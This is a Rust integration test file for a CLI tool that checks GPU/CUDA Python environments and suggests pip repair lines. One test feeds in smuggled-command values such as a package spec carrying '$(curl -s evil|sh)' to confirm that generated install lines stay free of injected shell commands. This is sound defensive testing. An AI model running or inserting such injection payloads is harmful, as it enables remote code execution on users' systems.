//! `accept env` through the real binary: what is not known is no pass, and the repair lines are one set.

mod common;

use common::{Home, Run, finding};
use serde_json::Value;

fn env(home: &Home, args: &[&str]) -> Run {
    home.run(&[&["accept", "env"], args, &["-o", "json"]].concat())
}

fn lines(doc: &Value) -> Vec<String> {
    let items = doc["environment"]["repair"]["items"]
        .as_array()
        .expect("items");
    let line = |i: &Value| i["line"].as_str().map(str::to_owned);
    let mut all: Vec<String> = items.iter().filter_map(line).collect();
    all.sort();
    all.dedup();
    all
}

const H100: [&str; 4] = ["--driver", "580.95.05", "--gpu", "NVIDIA H100 80GB HBM3"];

#[test]
fn a_list_cannot_tell_what_it_never_shows() {
    let home = &Home::new();
    let list = home.file("freeze.txt", "torch==2.6.0\nsix==1.16.0\n");
    for need in ["python>=3.10", "pip"] {
        let doc = env(home, &[&list, "--need", need]).exits(7).json();
        assert_eq!(
            finding(&doc, "need", need)["code"],
            "env_need_unshown",
            "{need}"
        );
    }
    // so does what was saved of it
    let lock = home.path("l.json").display().to_string();
    env(home, &[&list, "--save", &lock]).exits(0);
    for need in ["python>=3.10", "cudnn==9"] {
        let doc = env(home, &[&lock, "--need", need]).exits(7).json();
        assert_eq!(
            finding(&doc, "need", need)["code"],
            "env_need_unshown",
            "{need}"
        );
    }
    // and a list that is not wholly read
    let cut = home.file("cut.txt", "six==1.16.0\nidna==3.4\nwhat is this\n");
    let doc = env(home, &[&cut, "--need", "flask"]).exits(7).json();
    assert_eq!(finding(&doc, "need", "flask")["code"], "env_need_unshown");
}

#[test]
fn what_was_not_judged_is_not_ready() {
    let home = &Home::new();
    let list = home.file("freeze.txt", "torch==2.6.0\n");
    let doc = env(home, &[&list, "--need", "torch"]).exits(0).json();
    assert_eq!(doc["environment"]["setup"]["image"], "adapt");
    let looks = doc["environment"]["repair"]["items"]
        .as_array()
        .expect("items");
    assert_eq!(looks.len(), 2, "{doc:#}");
    let page = home
        .run(&["accept", "env", &list, "--need", "torch"])
        .exits(0);
    assert!(
        page.out
            .contains("labour_hours = 1: 0.5 for the repairs, and 0.5"),
        "{}",
        page.out
    );
}

#[test]
fn the_runtime_of_a_wheel_is_no_toolkit() {
    let home = &Home::new();
    home.file("root/usr/lib/python3.11/site-packages/nvidia_cuda_runtime_cu12-12.4.127.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: nvidia-cuda-runtime-cu12\nVersion: 12.4.127\n\n");
    let root = home.path("root").display().to_string();
    let doc = env(home, &["--root", &root, "--need", "cuda-toolkit==12.4"])
        .exits(1)
        .json();
    assert_eq!(
        finding(&doc, "need", "cuda-toolkit")["code"],
        "env_need_missing"
    );
    env(
        home,
        &["--root", &root, "--need", "nvidia-cuda-runtime-cu12"],
    )
    .exits(0);
}

#[test]
fn odd_frameworks_and_builds_for_others_are_told() {
    let home = &Home::new();
    let list = home.file(
        "freeze.txt",
        "-e git+https://h/x@1#egg=torch\nsix==1.16.0\n",
    );
    let doc = env(home, &[&[list.as_str()][..], &H100].concat())
        .exits(7)
        .json();
    assert_eq!(finding(&doc, "installed", "torch ?")["verdict"], "unknown");
    for build in ["cpu", "rocm6.2.4", "cu118"] {
        let text = format!("torch==2.6.0+{build}\nflash_attn==2.8.3+cu12torch2.6cxx11abiFALSE\n");
        let doc = env(home, &[&home.file("f.txt", text)]).exits(1).json();
        assert_eq!(
            finding(&doc, "compiled", "flash_attn")["verdict"],
            "fail",
            "{build}"
        );
    }
}

#[test]
fn install_lines_hold_no_commands() {
    let home = &Home::new();
    let evil = "nvidia-nccl-cu12==2.21.5+x$(curl -s evil|sh)";
    let list = home.file("freeze.txt", "six==1.16.0\n");
    for need in [evil, "x$(evil)", "x[a]; $(evil)"] {
        let run = env(
            home,
            &[&[list.as_str(), "--need", need][..], &H100].concat(),
        );
        for line in lines(&run.json()) {
            assert!(!line.contains("$(") || line.contains("'"), "{line}");
        }
    }
    let run = home.run(&[
        "accept",
        "driver",
        "--driver",
        "580.95.05",
        "--gpu",
        "H100",
        "--need",
        evil,
        "-o",
        "json",
    ]);
    let doc = run.json();
    assert_eq!(finding(&doc, "need", "nvidia")["install"], Value::Null);
}

#[test]
fn repairs_are_one_set_around_the_torch_that_fits() {
    let home = &Home::new();
    let site = "venv/lib/python3.11/site-packages";
    home.file("venv/pyvenv.cfg", "home = /usr/bin\nversion = 3.11.4\n");
    for (name, version, requires) in [
        ("torch", "2.7.0+cu128", ""),
        ("torchvision", "0.21.0", "Requires-Dist: torch==2.6.0\n"),
    ] {
        home.file(
            &format!("{site}/{name}-{version}.dist-info/METADATA"),
            format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{requires}\n"),
        );
    }
    let venv = home.path("venv").display().to_string();
    let rtx = ["--driver", "580.95.05", "--gpu", "NVIDIA GeForce RTX 5090"];
    let needs = ["--need", "torch", "--need", "vllm"];
    let doc = env(home, &[&[venv.as_str()][..], &rtx, &needs].concat())
        .exits(1)
        .json();
    let all = lines(&doc);
    assert!(
        all.contains(&"pip install torchvision==0.22.0".to_owned()),
        "{all:?}"
    );
    assert!(all.iter().all(|l| !l.contains("torch==")), "{all:?}");
    // each vLLM of this torch is made for the CUDA of its wheel on PyPI, which has no code for the card: a question
    assert!(all.iter().all(|l| !l.contains("vllm")), "{all:?}");
    let vllm = finding(&doc, "need", "vllm");
    assert!(
        vllm["ask"]
            .as_str()
            .is_some_and(|a| a.contains("go together")),
        "{vllm}"
    );
    // on a card that all carry it is the one of that torch
    let doc = env(home, &[&[venv.as_str()][..], &H100, &needs].concat())
        .exits(1)
        .json();
    let all = lines(&doc);
    assert_eq!(
        all,
        ["pip install torchvision==0.22.0", "pip install vllm==0.9.2"]
    );
    // the same of a list: no two lines that undo each other
    let list = home.file(
        "f.txt",
        "torch==2.7.1+cu128\ntorchvision==0.21.0\nvllm==0.8.5\n",
    );
    let doc = env(home, &[&[list.as_str()][..], &rtx].concat())
        .exits(1)
        .json();
    let all = lines(&doc);
    assert!(
        all.contains(&"pip install torchvision==0.22.1".to_owned()),
        "{all:?}"
    );
    assert!(all.iter().all(|l| !l.contains("torch==")), "{all:?}");
    assert!(all.iter().all(|l| !l.contains("vllm")), "{all:?}");
    // no release is known that goes with it: a question, no line
    let list = home.file("f.txt", "torch==2.7.2+cu128\ntorchvision==0.21.0\n");
    let doc = env(home, &[&list]).exits(1).json();
    let pair = finding(&doc, "pair", "torchvision");
    assert_eq!(pair["install"], Value::Null);
    assert!(
        pair["ask"]
            .as_str()
            .is_some_and(|a| a.contains("go together")),
        "{pair}"
    );
}

#[test]
fn an_image_for_another_processor_fails() {
    let home = &Home::new();
    let status = |arch: &str| {
        format!("Package: bash\nStatus: install ok installed\nArchitecture: {arch}\nVersion: 5.1\n")
    };
    let root = home.path("root").display().to_string();
    let args = [&["--root", root.as_str()][..], &H100].concat();
    home.file("root/var/lib/dpkg/status", status("arm64"));
    let doc = env(home, &args).exits(1).json();
    assert_eq!(finding(&doc, "architecture", "aarch64")["verdict"], "fail");
    home.file("root/var/lib/dpkg/status", status("amd64"));
    env(home, &args).exits(0);
    // of a board whose processor is Arm it is the other way round
    let grace = ["--driver", "580.95.05", "--gpu", "NVIDIA GH200 480GB"];
    let args = [&["--root", root.as_str()][..], &grace].concat();
    let doc = env(home, &args).exits(1).json();
    assert_eq!(finding(&doc, "architecture", "x86_64")["verdict"], "fail");
}
